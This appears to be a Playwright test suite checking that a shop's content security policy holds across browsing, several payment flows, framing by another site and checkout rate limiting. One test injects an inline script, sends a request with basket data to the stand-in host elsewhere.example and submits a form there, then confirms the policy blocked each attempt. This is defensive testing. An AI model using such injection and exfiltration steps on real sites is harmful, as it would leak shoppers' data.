// The browser itself is asked whether the pages keep to the shop's content security policy. What a policy stops happens
// silently for the shopper: a script that does not run, or a form that leads nowhere.
import { type Page } from "@playwright/test";
import { expect, test } from "./fixtures";
import {
  behind,
  buy,
  chooseMarket,
  complete,
  expectOrder,
  fillCheckout,
  goToHostedPage,
  issueSlip,
  pattern,
  payAgain,
  payButton,
  putInBasket,
  returnToShop,
  tea,
} from "./steps";
import { buyAt, tills } from "./tills";

/** All that the browser says about the policy on any page of this visit. */
function violations(page: Page): string[] {
  const said: string[] = [];
  page.on("console", (message) => {
    if (/content security policy|permissions policy|refused to/i.test(message.text())) said.push(message.text());
  });
  page.on("pageerror", (error) => said.push(String(error)));
  return said;
}

test("no page of the shop asks for anything that its policy stops", async ({ page }) => {
  const said = violations(page);
  for (const path of ["/", "/categories/textiles", "/products/sencha-tin", "/basket", "/checkout", "/about", "/nowhere"]) {
    await page.goto(path);
    await page.waitForLoadState("networkidle");
  }
  await putInBasket(page, tea, 2);
  await page.goto("/checkout");
  await page.waitForLoadState("networkidle");
  expect(said).toEqual([]);
});

test("a whole purchase at KOMOJU keeps to the policy", async ({ page }) => {
  const said = violations(page);
  await buy(page, pattern);
  await expectOrder(page, complete);
  await page.goto(`${page.url().split("?")[0]}/support`);
  expect(said).toEqual([]);
});

for (const till of tills) {
  test(`a whole purchase at ${till.name} keeps to the policy`, async ({ page }) => {
    const said = violations(page);
    await buyAt(page, till);
    await expectOrder(page, complete);
    expect(said).toEqual([]);
  });
}

test("paying another way, a slip and giving an order up keep to the policy", async ({ page }) => {
  const said = violations(page);
  await chooseMarket(page, "japan");
  await goToHostedPage(page, tea);
  await returnToShop(page);
  await payAgain(page, "Convenience store");
  await issueSlip(page);
  await page.getByRole("button", { name: "Cancel this order" }).click();
  await expect.poll(async () => (await behind(page)).state).toBe("cancelled");
  expect(said).toEqual([]);
});

test("what a page may not do is really stopped", async ({ page, javaScriptEnabled }) => {
  test.skip(javaScriptEnabled === false, "only a script can try");
  const said = violations(page);
  await page.goto("/checkout");
  const ran = await page.evaluate(async () => {
    const script = document.createElement("script");
    script.textContent = "document.body.dataset.ran = 'yes'";
    document.body.append(script);
    const sent = await fetch("https://elsewhere.example/?basket").then(
      () => "sent",
      () => "stopped",
    );
    const form = document.createElement("form");
    form.action = "https://elsewhere.example/";
    form.method = "post";
    document.body.append(form);
    form.submit();
    await new Promise((done) => setTimeout(done, 300));
    return [document.body.dataset.ran ?? "no", sent, location.pathname];
  });
  expect(ran).toEqual(["no", "stopped", "/checkout"]);
  expect(said.join("\n")).toContain("script-src");
  expect(said.join("\n")).toContain("form-action");
});

test("the shop cannot be put into another site's page", async ({ page, shop }) => {
  const frame = `<iframe id="shop" src="${shop.url}/about"></iframe>`;
  await page.route("**/around", (route) => route.fulfill({ contentType: "text/html", body: frame }));
  await page.goto(`${shop.simulator}/around`);
  await expect(page.frameLocator("#shop").getByRole("heading", { name: "About this shop" })).toHaveCount(0);
});

test.describe("with two checkouts at once", () => {
  test.use({ settings: { CHECKOUTS_PER_MINUTE: "1" } });

  test("who checks out too often reads what to do, and can go on", async ({ page, shop }) => {
    await putInBasket(page, tea);
    const press = async () => {
      await fillCheckout(page);
      // Good enough for the browser, and not for the shop.
      await page.getByLabel("E-mail").fill("mika@example");
      await payButton(page).click();
    };
    for (const time of ["once", "twice"]) {
      await press();
      await expect(page, time).toHaveURL(/problem=email/);
    }
    await press();
    await expect(page.getByRole("heading", { name: "One moment, please" })).toBeVisible();
    await expect(page.getByText("Please go back and try again in")).toBeVisible();
    await shop.control("clock", { forward_seconds: 120 });
    await page.getByRole("link", { name: "To the basket" }).click();
    await goToHostedPage(page, tea);
  });
});
